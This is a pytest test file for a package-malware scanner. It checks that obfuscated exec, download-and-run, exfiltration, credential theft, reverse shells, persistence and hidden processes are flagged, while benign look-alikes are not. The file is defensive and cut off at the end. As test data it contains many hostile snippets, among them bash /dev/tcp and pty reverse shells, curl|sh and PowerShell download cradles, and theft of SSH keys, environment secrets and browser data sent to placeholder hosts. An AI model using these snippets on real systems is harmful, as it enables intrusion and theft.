"""Layer-2 threats (bot.analysis.threats): each type on malicious shapes and on the benign
idioms of popular projects that look alike. Snippets are analyzed as bytes, never run;
hosts are documentation addresses or example.invalid."""

from __future__ import annotations

import ast
import base64
import zlib

import pytest

from bot.analysis.imports import Scopes
from bot.analysis.payloads import MAX_PAYLOAD, decode_payload
from bot.analysis.threats import may_hold_threat, threat_prescan
from bot.analysis.types import FileRole
from bot.model import THREAT_TYPES, AlertType, Finding, Severity
from tests.analysis.snippets import findings

INIT = FileRole.PACKAGE_INIT
INSTALL = FileRole.INSTALL_TIME


def threats(source: str, role: FileRole = FileRole.MODULE) -> list[Finding]:
    return [f for f in findings(source, role) if f.type in THREAT_TYPES]


def types(source: str, role: FileRole = FileRole.MODULE) -> set[str]:
    return {f.type.value for f in threats(source, role)}


# --- obfuscated-exec ----------------------------------------------------------------------

def test_fernet_decrypted_exec_names_the_chain() -> None:
    source = """\
    from cryptography.fernet import Fernet
    KEY = b"k"
    BLOB = b"gAAAAA"
    def run():
        exec(Fernet(KEY).decrypt(BLOB))
    run()
    """
    [found] = threats(source)
    assert found.type is AlertType.OBFUSCATED_EXEC
    assert found.severity is Severity.CRITICAL
    assert found.line == 5
    assert found.reason == (
        "Decrypts data with `cryptography.fernet.Fernet.decrypt` (pkg/mod.py:5) and runs the "
        "result with `exec` (pkg/mod.py:5).")


@pytest.mark.parametrize("source", [
    # AES through a cipher object
    "from Crypto.Cipher import AES\nc = AES.new(k, AES.MODE_CBC, iv)\nexec(c.decrypt(blob))\n",
    # pieces joined from a list bound to a name
    "import os\nparts = ['o', 's.sy', 'stem']\ncode = ''.join(parts)\neval(code)\n",
    # decoded in a helper, run by the caller
    "import base64\ndef unpack(s):\n    return base64.b64decode(s)\nexec(unpack(DATA))\n",
    # lambda indirection
    "import zlib\nrun = lambda c: exec(c)\nrun(zlib.decompress(BLOB))\n",
    # getattr on builtins with a computed name
    "import builtins, base64\ngetattr(builtins, 'ex' + 'ec')(base64.b64decode(P))\n",
    # a decoded shell command
    "import os, base64\nos.system(base64.b64decode('aWQ=').decode())\n",
])
def test_hidden_code_shapes_are_obfuscated_exec(source: str) -> None:
    assert "obfuscated-exec" in types(source)


def test_decoded_payload_is_analyzed_and_its_calls_listed() -> None:
    inner = b"import os\nos.system('id')\nimport urllib.request\nurllib.request.urlopen(U)\n"
    payload = base64.b64encode(zlib.compress(inner)).decode()
    source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{payload}')))\n"
    [found] = [f for f in findings(source) if f.type is AlertType.OBFUSCATED_EXEC]
    assert found.reason == (
        "Runs hidden code: exec of data decoded with base64.b64decode+zlib.decompress; the "
        "hidden code calls `os.system`, `urllib.request.urlopen`.")


def test_nested_payload_threats_are_reported_at_the_outer_line() -> None:
    stage2 = b"import os, requests\nrequests.post('http://203.0.113.7/c', data=dict(os.environ))\n"
    stage1 = f"import base64\nexec(base64.b64decode({base64.b64encode(stage2)!r}))\n".encode()
    source = f"import base64\n\nexec(base64.b64decode({base64.b64encode(stage1)!r}))\n"
    exfil = [f for f in threats(source) if f.type is AlertType.EXFILTRATION]
    assert exfil and all(f.line == 3 for f in exfil)
    assert exfil[0].reason.startswith("In code decoded at pkg/mod.py:3: In code decoded at ")


def test_code_generators_and_version_reads_are_not_obfuscated_exec() -> None:
    # attrs/dataclasses build source with "\n".join and compile it; setup.py reads a version.
    assert types("""\
    def make(lines, ns):
        src = "\\n".join(lines)
        exec(compile(src, "<gen>", "exec"), ns)
    exec(open("pkg/_version.py").read())
    items = sorted(data)[::-1]
    eval(repr(items))
    """) == set()


def test_pickled_compressed_cache_is_not_a_threat() -> None:
    assert types("import pickle, zlib\ndef get(f):\n    return pickle.loads(zlib.decompress(f"
                 ".read()))\n") == set()


# --- download-exec ------------------------------------------------------------------------

def test_download_write_run_chain_lists_every_step() -> None:
    source = """\
    import os, subprocess, tempfile, urllib.request
    def update():
        url = "https://example.invalid/a.exe"
        path = os.path.join(tempfile.gettempdir(), "a.exe")
        data = urllib.request.urlopen(url).read()
        with open(path, "wb") as f:
            f.write(data)
        subprocess.Popen([path])
    update()
    """
    [found] = threats(source)
    assert found.type is AlertType.DOWNLOAD_EXEC
    assert found.reason == (
        "Downloads `https://example.invalid/a.exe` with `urllib.request.urlopen` "
        "(pkg/mod.py:5), writes it to `a.exe` (pkg/mod.py:7) and runs it with "
        "`subprocess.Popen` (pkg/mod.py:8).")


@pytest.mark.parametrize("source", [
    "import requests\nexec(requests.get('https://example.invalid/p').text)\n",
    "import urllib.request as u\nexec(u.urlopen(URL).read().decode())\n",
    "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n",
    "import os\nos.system('certutil -urlcache -f http://example.invalid/u.exe u.exe"
    " && start u.exe')\n",
    "import urllib.request, importlib\nc = urllib.request.urlopen(U).read()\n"
    "open('pkg/_p.py', 'wb').write(c)\nimportlib.import_module('pkg._p')\n",
    "import urllib.request, ctypes\nurllib.request.urlretrieve(U, '/tmp/l.so')\n"
    "ctypes.CDLL('/tmp/l.so')\n",
])
def test_download_exec_shapes(source: str) -> None:
    assert "download-exec" in types(source)


def test_downloading_without_running_is_only_a_capability() -> None:
    # pip, requests and package indexes download and write files; nothing runs them.
    assert types("""\
    import requests, subprocess
    def fetch(url, dest):
        r = requests.get(url)
        with open(dest, "wb") as f:
            f.write(r.content)
        subprocess.run(["git", "status"])
        return r.json()
    """) == set()


# --- exfiltration ---------------------------------------------------------------------------

def test_whole_environment_to_any_host_is_exfiltration() -> None:
    [found] = threats("""\
    import json, os, urllib.request
    def report():
        body = json.dumps({"env": dict(os.environ)}).encode()
        urllib.request.urlopen(urllib.request.Request("https://example.invalid/c", body))
    """)
    assert found.type is AlertType.EXFILTRATION
    assert found.reason.startswith("Reads the whole environment (pkg/mod.py:3) and sends it to")


@pytest.mark.parametrize("source", [
    # a secret to a webhook
    "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x',"
    " json={'t': os.getenv('GITHUB_TOKEN')})\n",
    # host identity to a raw IP from a helper
    "import getpass, socket, requests\ndef who():\n    return f'{getpass.getuser()}@"
    "{socket.gethostname()}'\nrequests.get('http://203.0.113.5/b', params={'u': who()})\n",
    # clipboard into a message sent over SMTP
    "import smtplib, pyperclip\nm = {}\nm['body'] = pyperclip.paste()\n"
    "smtplib.SMTP('198.51.100.2').sendmail('a', 'b', str(m))\n",
    # a socket send of a private key
    "import os, socket\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "s = socket.socket()\ns.connect(('203.0.113.9', 80))\ns.send(key.encode())\n",
])
def test_exfiltration_shapes(source: str) -> None:
    assert "exfiltration" in types(source)


def test_ordinary_clients_sending_their_own_credentials_are_quiet() -> None:
    # requests' netrc auth, a GitHub client's token, paramiko's ssh config, telemetry.
    assert types("""\
    import netrc, os, socket, requests, paramiko
    def auth(url):
        login = netrc.netrc(os.path.expanduser("~/.netrc")).authenticators("h")
        return requests.get(url, auth=login)
    def github(repo):
        headers = {"Authorization": f"token {os.environ['GITHUB_TOKEN']}"}
        return requests.get(f"https://api.github.com/repos/{repo}", headers=headers)
    def ssh():
        config = open(os.path.expanduser("~/.ssh/config")).read()
        client = paramiko.SSHClient()
        client.connect(config.split()[1])
    def tags():
        return requests.post("https://sentry.example.org/api", json={"host": socket.gethostname()})
    """) == set()


# --- credential-theft ---------------------------------------------------------------------

def test_browser_and_wallet_raid_is_credential_theft() -> None:
    found = threats(r"""
    import os, shutil, sqlite3
    LOCAL = os.getenv("LOCALAPPDATA")
    def grab():
        db = os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Login Data")
        shutil.copy(db, "t.db")
        rows = sqlite3.connect("t.db").execute("select * from logins").fetchall()
        wallets = os.path.join(os.getenv("APPDATA"), "Exodus/exodus.wallet")
        return rows, os.listdir(wallets)
    """)
    assert [f.type for f in found] == [AlertType.CREDENTIAL_THEFT]
    assert found[0].normalized == "browser+wallet"


def test_one_browser_store_without_network_is_not_theft() -> None:
    # yt-dlp and browser-cookie3 read cookies for the user; they send nothing themselves.
    assert types("""\
    import os, sqlite3
    def cookies(profile):
        path = os.path.join(profile, "Network", "Cookies")
        return sqlite3.connect(path).execute("select host_key from cookies").fetchall()
    """) == set()


# --- reverse-shell --------------------------------------------------------------------------

@pytest.mark.parametrize("source", [
    "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.1', 4444))\n"
    "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n",
    "import socket, subprocess\ns = socket.create_connection(('203.0.113.1', 9))\n"
    "subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n",
    "import os\nos.system('bash -i >& /dev/tcp/203.0.113.1/4444 0>&1')\n",
    "import os\nos.system(\"python3 -c 'import socket,os,pty;s=socket.socket();"
    "s.connect((\\\"203.0.113.9\\\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
    "pty.spawn(\\\"/bin/sh\\\")' &\")\n",
])
def test_reverse_shell_shapes(source: str) -> None:
    assert "reverse-shell" in types(source)


def test_pty_terminal_and_socket_servers_are_not_shells() -> None:
    # pexpect/ptyprocess spawn programs on a pty; servers use sockets; neither wires them.
    assert types("""\
    import os, pty, socket, subprocess
    def spawn(argv):
        pid, fd = pty.fork()
        if pid == 0:
            os.execvp(argv[0], argv)
    def serve():
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        subprocess.run(["ls"], stdout=subprocess.PIPE)
    """) == set()


# --- persistence ----------------------------------------------------------------------------

@pytest.mark.parametrize("source", [
    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write(CMD)\n",
    "import subprocess\nsubprocess.run(['schtasks', '/create', '/tn', 'u', '/tr', 'x.exe'])\n",
    "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
    "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
    "winreg.SetValueEx(k, 'u', 0, winreg.REG_SZ, 'x.exe')\n",
    "import shutil, os, sys\nshutil.copy(sys.argv[0], os.path.join(os.getenv('APPDATA'), "
    "'Microsoft/Windows/Start Menu/Programs/Startup/u.exe'))\n",
    "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'sitecustomize.py'), 'w')"
    ".write('import x')\n",
    "open('/etc/systemd/system/u.service', 'w').write(UNIT)\n",
])
def test_persistence_shapes(source: str) -> None:
    assert "persistence" in types(source)


def test_build_environments_and_cli_rc_helpers_are_not_persistence() -> None:
    # pip's isolated build env writes a throw-away sitecustomize; argcomplete's installer
    # appends to ~/.bashrc only when the user runs its command.
    assert types("""\
    import os, textwrap
    class BuildEnvironment:
        def __init__(self, site_dir):
            with open(os.path.join(site_dir, "sitecustomize.py"), "w") as fp:
                fp.write(textwrap.dedent("import sys"))
    def activate_global():
        with open(os.path.expanduser("~/.bashrc"), "a") as f:
            f.write("eval $(register-python-argcomplete x)")
    """) == set()


# --- hidden-process -------------------------------------------------------------------------

@pytest.mark.parametrize("source", [
    "import subprocess, requests\nr = requests.get(U)\nopen('x.exe', 'wb').write(r.content)\n"
    "subprocess.Popen(['x.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n",
    "import subprocess, base64\nopen('/tmp/.s', 'wb').write(base64.b64decode(B))\n"
    "subprocess.Popen(['/tmp/.s'], start_new_session=True)\n",
    "import os, requests\np = os.path.expandvars(r'%TEMP%\\h.exe')\n"
    "open(p, 'wb').write(requests.get(U).content)\nos.system('start /b ' + p)\n",
])
def test_hidden_process_shapes(source: str) -> None:
    assert "hidden-process" in types(source)


def test_windowless_tools_of_ordinary_code_are_quiet() -> None:
    # IDEs and CLIs hide console windows for their own tools; daemons detach themselves.
    assert types("""\
    import subprocess, sys
    def version():
        return subprocess.run(["git", "--version"], creationflags=0x08000000)
    def daemon():
        subprocess.Popen([sys.executable, "-m", "pkg.worker"], start_new_session=True)
    """) == set()


# --- install time ---------------------------------------------------------------------------

def test_setup_py_contact_is_a_payload_and_build_tools_are_processes() -> None:
    source = """\
    import subprocess, urllib.request
    from setuptools import setup
    flags = subprocess.check_output(["pg_config", "--includedir"])
    subprocess.check_call(["git", "describe"])
    urllib.request.urlopen("http://203.0.113.3/ping")
    setup()
    """
    rows = {(f.type.value, f.line) for f in findings(source, INSTALL)
            if f.type.value.startswith("install-") and f.type.value != "install-script"}
    assert rows == {("install-process", 3), ("install-process", 4),
                    ("install-time-payload", 5)}


# --- dataflow bounds and hostile inputs ---------------------------------------------------

def test_deeply_nested_decoders_end_in_a_bounded_result() -> None:
    code = b"print(1)"
    for _ in range(30):
        encoded = repr(base64.b64encode(code)).encode()
        code = b"import base64\nexec(base64.b64decode(" + encoded + b"))"
    result = findings(code.decode())
    assert any(f.type is AlertType.OBFUSCATED_EXEC for f in result)


def test_decompression_bomb_is_not_inflated() -> None:
    bomb = base64.b64encode(zlib.compress(b"\0" * (MAX_PAYLOAD * 4))).decode()
    scopes = Scopes()
    tree = ast.parse(f"import zlib, base64\nzlib.decompress(base64.b64decode('{bomb}'))")
    for statement in tree.body[:1]:
        assert isinstance(statement, ast.Import)
        scopes.bind_import(statement)
    call = tree.body[1]
    assert isinstance(call, ast.Expr)
    assert decode_payload(call.value, scopes.resolve, lambda name: None) is None
    assert "obfuscated-exec" in types(f"import zlib, base64\nexec(zlib.decompress("
                                      f"base64.b64decode('{bomb}')))\n")


def test_many_functions_and_long_chains_stay_fast_and_bounded() -> None:
    lines = ["import os, requests", "v0 = os.environ.copy()"]
    lines += [f"def f{i}(x):\n    return f{i - 1}(x) if x else v{i - 1}" for i in range(1, 300)]
    lines += [f"v{i} = v{i - 1}" for i in range(1, 300)]
    lines.append("requests.post('https://example.invalid/c', json=v299)")
    found = types("\n".join(lines) + "\n")
    assert found == {"exfiltration"}


def test_gates_are_cheap_token_tests() -> None:
    assert not may_hold_threat(b"import json\nprint(json.dumps({}))\n", FileRole.MODULE)
    assert may_hold_threat(b"import os, requests\nrequests.post(u, data=dict(os.environ))",
                           FileRole.MODULE)
    assert not threat_prescan(b"import requests\nrequests.get('https://pypi.org')\n")
    assert threat_prescan(b"exec(base64.b64decode(x))")
    assert threat_prescan(b"os.dup2(s.fileno(), 0)")


def test_threats_in_package_init_at_import_count_single_secrets() -> None:
    source = """\
    import os, requests
    def _ping():
        requests.post("https://example.invalid/i", data={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})
    _ping()
    """
    assert types(source, INIT) == {"exfiltration"}
    assert types(source) == set()  # the same helper in a module nobody calls at import


# --- chains added from the development set -------------------------------------------------

@pytest.mark.parametrize(("source", "kind", "role"), [
    # keystrokes from a keyboard hook, buffered in a module list, posted to a webhook
    ("import requests\nfrom pynput import keyboard\nHOOK = 'https://discord.com/api/webhooks/1/x'"
     "\nbuf = []\ndef on_press(key):\n    buf.append(str(key))\n"
     "    requests.post(HOOK, json={'c': ''.join(buf)})\n"
     "keyboard.Listener(on_press=on_press).start()\n", "exfiltration", FileRole.MODULE),
    # the user and host name interpolated into a DNS lookup at install time
    ("import subprocess\nsubprocess.run('nslookup `whoami`.`hostname`.b.example.invalid',"
     " shell=True)\n", "exfiltration", INSTALL),
    # inline Python started windowless and detached, decoding a stage
    ("import subprocess, sys\nP = \"import base64;exec(base64.b64decode('aWQ='))\"\n"
     "subprocess.Popen([sys.executable, '-c', P], creationflags=0x08000000,"
     " start_new_session=True)\n", "hidden-process", INIT),
    # a program shipped in the package started detached when the package is imported
    ("import os, subprocess\nsubprocess.Popen(os.path.join(os.path.dirname(__file__), 'bin'),"
     " start_new_session=True)\n", "hidden-process", INIT),
    # ~/.profile appended through pathlib
    ("from pathlib import Path\nstartup = Path.home() / '.s.py'\nstartup.write_text(CODE)\n"
     "with (Path.home() / '.profile').open('a') as h:\n"
     "    h.write(f'export PYTHONSTARTUP={startup}')\n", "persistence", INIT),
    # browser cookies read with a cookie library and posted
    ("import browser_cookie3, requests\nc = [x.value for x in browser_cookie3.chrome()]\n"
     "requests.post('https://example.invalid/c', json=c)\n", "exfiltration", FileRole.MODULE),
])
def test_development_set_chains(source: str, kind: str, role: FileRole) -> None:
    assert kind in types(source, role)


def test_threats_in_setup_py_are_also_install_time_payloads() -> None:
    found = types("import os, requests\nexec(requests.get('https://example.invalid/s').text)\n",
                  INSTALL)
    assert {"download-exec", "install-time-payload"} <= found


@pytest.mark.parametrize(("source", "kind"), [
    ("_D = [112, 114]\ndef dec(v):\n    return ''.join(map(chr, v))\ndef run():\n"
     "    exec(dec(_D), {})\n", "obfuscated-exec"),
    ("import requests\nM = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'"
     "\nrole = requests.get(M).text\nc = requests.get(M + role).json()\n"
     "requests.post('http://198.51.100.33/a', json=c)\n", "exfiltration"),
    ("import base64, ctypes, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'q.exe')\n"
     "with open(p, 'wb') as h:\n    h.write(base64.b64decode(B))\n"
     "ctypes.windll.shell32.ShellExecuteW(None, 'open', p, None, None, 0)\n", "hidden-process"),
    ("import socket, subprocess\ndef go():\n    s = socket.socket()\n"
     "    s.connect(('203.0.113.45', 443))\n    p = subprocess.Popen(['cmd.exe'], "
     "stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n    relay(s, p)\n", "reverse-shell"),
])
def test_more_development_set_chains(source: str, kind: str) -> None:
    assert kind in types(source)


def test_local_services_are_not_reverse_shells() -> None:
    # A tool that talks to a local daemon and runs a shell command with piped input.
    assert types("import socket, subprocess\ndef go():\n    s = socket.socket()\n"
                 "    s.connect(('127.0.0.1', 8080))\n"
                 "    subprocess.Popen(['sh', '-c', 'true'], stdin=subprocess.PIPE)\n") == set()


@pytest.mark.parametrize(("source", "kind"), [
    ("import os, requests\nhome = os.path.expanduser('~')\n"
     "p = os.path.join(home, '.lunarclient', 'settings', 'game', 'accounts.json')\n"
     "requests.post('http://203.0.113.140/up', files={'a': open(p, 'rb')})\n",
     "credential-theft"),
    ("import glob, os, urllib.request\ndef inject():\n"
     "    code = urllib.request.urlopen('https://example.invalid/i.js').read()\n"
     "    pattern = os.path.join(os.getenv('LOCALAPPDATA', ''), 'Discord', 'app-*', 'modules',"
     " 'discord_desktop_core-*', 'discord_desktop_core', 'index.js')\n"
     "    for path in glob.glob(pattern):\n        with open(path, 'wb') as h:\n"
     "            h.write(code)\n", "persistence"),
    ("from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000"
     + "\\x00" * 40 + "')\n", "obfuscated-exec"),
])
def test_store_injection_and_packed_shapes(source: str, kind: str) -> None:
    assert kind in types(source)


def test_writing_javascript_that_was_not_downloaded_is_quiet() -> None:
    # Documentation and web-asset builders write index.js files from their own templates.
    assert types("def build(out, body):\n    with open(out + '/index.js', 'w') as f:\n"
                 "        f.write(body)\n") == set()


def test_a_download_checked_against_a_pinned_digest_is_not_download_exec() -> None:
    # ruff/uv-style installers fetch a pinned binary and verify it before running it.
    source = """\
    import hashlib, subprocess, urllib.request
    SHA256 = "0" * 64
    def install(target):
        data = urllib.request.urlopen("https://example.invalid/tool").read()
        if hashlib.sha256(data).hexdigest() != SHA256:
            raise RuntimeError("checksum mismatch")
        with open(target, "wb") as handle:
            handle.write(data)
        return subprocess.run([target, "--version"])
    """
    assert types(source) == set()
    assert "download-exec" in types(source.replace("        if hashlib", "        if not_hash"))


@pytest.mark.parametrize(("source", "kinds"), [
    ("import subprocess\nLINE = '*/10 * * * * curl -fsSL http://example.invalid/u.sh | sh'\n"
     "subprocess.run(['crontab', '-'], input=LINE, text=True)\n",
     {"download-exec", "persistence"}),
    ("import subprocess\nsubprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-Command',"
     " \"IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')\"],"
     " creationflags=subprocess.CREATE_NO_WINDOW)\n", {"download-exec", "hidden-process"}),
])
def test_download_cradles_in_commands_and_their_input(source: str, kinds: set[str]) -> None:
    assert kinds <= types(source)


# --- generalized shapes: persistence, shells, downloads, values, indirection -----------------

_GENERAL_POSITIVES = [
    # XDG autostart entry written at import
    ("import os\np = os.path.expanduser('~/.config/autostart/upd.desktop')\n"
     "with open(p, 'w') as f:\n    f.write('[Desktop Entry]\\nExec=/tmp/x\\n')\n", "persistence"),
    # macOS login item through osascript
    ("import subprocess\nsubprocess.run(['osascript', '-e', 'tell application \"System Events\" "
     "to make login item at end with properties {path:\"/tmp/x.app\"}'])\n", "persistence"),
    # Run value through PowerShell
    ("import subprocess\nsubprocess.run(['powershell', '-c', r'New-ItemProperty -Path "
     r"HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name u -Value C:\x.exe'])" "\n",
     "persistence"),
    ("import subprocess\nsubprocess.run('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\"
     "CurrentVersion\\\\RunOnce /v u /d x.exe', shell=True)\n", "persistence"),
    # Run value through advapi32 with ctypes
    ("import ctypes\nadv = ctypes.windll.advapi32\nk = ctypes.c_void_p()\n"
     "adv.RegOpenKeyExW(0x80000001, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run',"
     " 0, 0x20006, ctypes.byref(k))\nadv.RegSetValueExW(k, 'u', 0, 1, 'C:\\\\x.exe', 20)\n",
     "persistence"),
    # asyncio streams relayed to a shell
    ("import asyncio\nasync def main():\n"
     "    r, w = await asyncio.open_connection('203.0.113.7', 443)\n"
     "    p = await asyncio.create_subprocess_exec('/bin/sh', stdin=asyncio.subprocess.PIPE,"
     " stdout=asyncio.subprocess.PIPE)\n    p.stdin.write(await r.read(1024))\n"
     "asyncio.run(main())\n", "reverse-shell"),
    # pty.fork child runs a shell, the parent relays it to a socket with select
    ("import os, pty, select, socket\ns = socket.socket()\ns.connect(('203.0.113.7', 443))\n"
     "pid, fd = pty.fork()\nif pid == 0:\n    os.execv('/bin/sh', ['sh'])\n"
     "r, _, _ = select.select([s, fd], [], [])\nos.write(fd, s.recv(1024))\n", "reverse-shell"),
    # os.open/os.write then posix_spawn
    ("import os, urllib.request\ndata = urllib.request.urlopen('https://example.invalid/m').read()"
     "\nfd = os.open('/tmp/m', os.O_WRONLY | os.O_CREAT, 0o755)\nos.write(fd, data)\n"
     "os.posix_spawn('/tmp/m', ['/tmp/m'], {})\n", "download-exec"),
    # pycurl writing into a file that is then run
    ("import pycurl, subprocess\nc = pycurl.Curl()\nc.setopt(c.URL, 'https://example.invalid/m')\n"
     "f = open('/tmp/m', 'wb')\nc.setopt(c.WRITEDATA, f)\nc.perform()\nf.close()\n"
     "subprocess.Popen(['/tmp/m'])\n", "download-exec"),
    # pathlib write then os.execv
    ("import pathlib, os, requests\ndata = requests.get('https://example.invalid/m').content\n"
     "p = pathlib.Path('/tmp/m')\np.write_bytes(data)\nos.execv(str(p), [str(p)])\n",
     "download-exec"),
    # a hand-written GET over a raw socket
    ("import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.7', 80))\n"
     "s.send(b'GET /a HTTP/1.0\\r\\n\\r\\n')\ndata = s.recv(100000)\n"
     "open('/tmp/a', 'wb').write(data)\nsubprocess.Popen(['/tmp/a'])\n", "download-exec"),
    # credentials held by a library object, sent to a webhook
    ("import boto3, requests\nc = boto3.Session().get_credentials()\n"
     "requests.post('https://webhook.site/0000', json={'k': c.access_key})\n", "exfiltration"),
    # a decorator that sees the caller's password
    ("import functools, requests\ndef log(f):\n    @functools.wraps(f)\n"
     "    def w(host, user, password):\n"
     "        requests.post('http://203.0.113.5/c', data={'h': host, 'p': password})\n"
     "        return f(host, user, password)\n    return w\n", "exfiltration"),
    # a patched method reading a key from its keyword arguments
    ("import requests\ndef patched(self, *a, **kw):\n"
     "    requests.post('https://discord.com/api/webhooks/0/x', json={'k': kw['private_key']})\n",
     "exfiltration"),
    # file contents hex-encoded into DNS labels
    ("import socket\ndata = open('notes.txt').read().encode().hex()\n"
     "for i in range(0, len(data), 60):\n"
     "    socket.gethostbyname(data[i:i + 60] + '.x.example.invalid')\n", "exfiltration"),
    # exec fetched from a builtins mapping
    ("import base64, builtins\nvars(builtins)['ex' + 'ec'](base64.b64decode(P))\n",
     "obfuscated-exec"),
    ("import base64\nglobals()['__builtins__']['exec'](base64.b64decode(P))\n",
     "obfuscated-exec"),
    # a translate() table as the decoder
    ("T = str.maketrans('abc', 'bca')\nexec(P.translate(T))\n", "obfuscated-exec"),
    # XOR-decoded bytes dropped and loaded as a native library
    ("import ctypes, tempfile\nblob = bytes(b ^ 0x5A for b in DATA)\n"
     "p = tempfile.gettempdir() + '/x.dll'\nopen(p, 'wb').write(blob)\nctypes.CDLL(p)\n",
     "obfuscated-exec"),
    # streamed response copied into a file that is then run
    ("import requests, shutil, subprocess\nr = requests.get('https://example.invalid/a', "
     "stream=True)\nwith open('/tmp/a', 'wb') as f:\n    shutil.copyfileobj(r.raw, f)\n"
     "subprocess.Popen(['/tmp/a'])\n", "download-exec"),
    # aiohttp download read inside nested async with blocks
    ("import aiohttp, os\nasync def go():\n    async with aiohttp.ClientSession() as s:\n"
     "        async with s.get('https://example.invalid/a') as r:\n"
     "            data = await r.read()\n    with open('/tmp/a', 'wb') as f:\n"
     "        f.write(data)\n    os.execv('/tmp/a', ['/tmp/a'])\n", "download-exec"),
    # mkstemp's descriptor written, its path started
    ("import os, tempfile, urllib.request\n"
     "d = urllib.request.urlopen('https://example.invalid/a').read()\n"
     "fd, path = tempfile.mkstemp(suffix='.exe')\nos.write(fd, d)\nos.startfile(path)\n",
     "download-exec"),
    # fileless: decoded bytes in a memfd run through /proc/self/fd
    ("import os, base64\nfd = os.memfd_create('x')\nos.write(fd, base64.b64decode(BLOB))\n"
     "os.execv(f'/proc/self/fd/{fd}', ['x'])\n", "obfuscated-exec"),
    # a shell beside a socket connected to a decoded address
    ("import socket, subprocess, base64\nh = base64.b64decode('MjAzLjAuMTEzLjc=').decode()\n"
     "s = socket.socket()\ns.connect((h, 443))\n"
     "p = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n",
     "reverse-shell"),
    # the user name as a DNS label
    ("import socket, os\nsocket.getaddrinfo(os.getlogin() + '.x.example.invalid', 80)\n",
     "exfiltration"),
    # a credential store's API, a wallet library's key, a secret class attribute
    ("import keyring, requests\np = keyring.get_password('svc', 'me')\n"
     "requests.post('http://203.0.113.9/p', data=p)\n", "exfiltration"),
    ("from eth_account import Account\nimport requests\nacct = Account.create()\n"
     "requests.post('https://discord.com/api/webhooks/1/x', json={'c': acct.key.hex()})\n",
     "exfiltration"),
    ("import requests\nclass Wallet:\n    def __init_subclass__(cls, **kw):\n"
     "        requests.post('http://203.0.113.9/w', json={'k': getattr(cls, 'PRIVATE_KEY')})\n",
     "exfiltration"),
    # code pushed off screen after 200 blanks
    ("from setuptools import setup\nsetup(name='x')" + " " * 200 + ";import os;os.system('id')\n",
     "obfuscated-exec"),
]


@pytest.mark.parametrize(("source", "kind"), _GENERAL_POSITIVES)
def test_generalized_threat_shapes(source: str, kind: str) -> None:
    assert kind in types(source)


def test_generalized_chains_name_their_steps() -> None:
    [found] = threats("import boto3, requests\nc = boto3.Session().get_credentials()\n"
                      "requests.post('https://webhook.site/0000', json={'k': c.access_key})\n")
    assert found.reason == (
        "Takes credentials with `.get_credentials()` (pkg/mod.py:2) and sends it to a "
        "data-capture endpoint (`https://webhook.site/0000`) with `requests.post` "
        "(pkg/mod.py:3).")
    [dns] = threats("import socket, base64\ndef leak(d):\n"
                    "    name = base64.b32encode(d).decode() + '.example.invalid'\n"
                    "    socket.getaddrinfo(name, 53)\n")
    assert dns.type is AlertType.EXFILTRATION and "DNS name" in dns.reason


@pytest.mark.parametrize("source", [
    # a desktop app's "start at login" option, written when the user turns it on
    "import os\ndef enable_autostart():\n"
    "    with open(os.path.expanduser('~/.config/autostart/app.desktop'), 'w') as f:\n"
    "        f.write('[Desktop Entry]\\nExec=app\\n')\n",
    # an SSH-like client sending the caller's password to the caller's host
    "import socket\ndef connect(hostname, username, password):\n"
    "    s = socket.create_connection((hostname, 22))\n    s.sendall(password.encode())\n",
    # a client object sending its own key to its own API
    "import requests\nclass Client:\n    def __init__(self, api_key):\n"
    "        self.api_key = api_key\n    def call(self):\n"
    "        return requests.post('https://api.example.com/v1', headers={'k': self.api_key})\n",
    # resolving a computed host name that carries no encoded data
    "import socket\ndef lookup(bucket):\n"
    "    return socket.gethostbyname(f'{bucket}.s3.example.com')\n",
    # a terminal emulator: an interactive shell on a pty, no remote connection
    "import os, pty, subprocess\ndef term():\n    pid, fd = pty.fork()\n    if pid == 0:\n"
    "        os.execv('/bin/bash', ['bash'])\n"
    "def console():\n    subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE)\n",
    # a remote job runner: a shell with a command to run beside a connection
    "import socket, subprocess\ns = socket.create_connection(('203.0.113.7', 9000))\n"
    "subprocess.run(['/bin/sh', '-c', 'make test'], stdout=subprocess.PIPE)\n",
    # blanks inside a string literal before code-looking words are layout
    "HELP = 'usage: tool" + " " * 120 + "import the data'\n",
    # resolving this machine's own name, bare or on the local network
    "import socket\nip = socket.gethostbyname(socket.gethostname())\n"
    "mdns = socket.gethostbyname(socket.gethostname() + '.local')\n",
    # an optional import that falls back to None is still the module where it imports
    "try:\n    import requests\nexcept ImportError:\n    requests = None\n"
    "def fetch(url):\n    return requests.get(url).json()\n",
    # a keyring-backed client authenticating to the host it was given
    "import keyring, requests\ndef login(url, user):\n"
    "    return requests.post(url, auth=(user, keyring.get_password('svc', user)))\n",
    # a CGI server: a decoded Authorization header goes into the child's environment
    "import base64, os\ndef run_cgi(auth, script):\n"
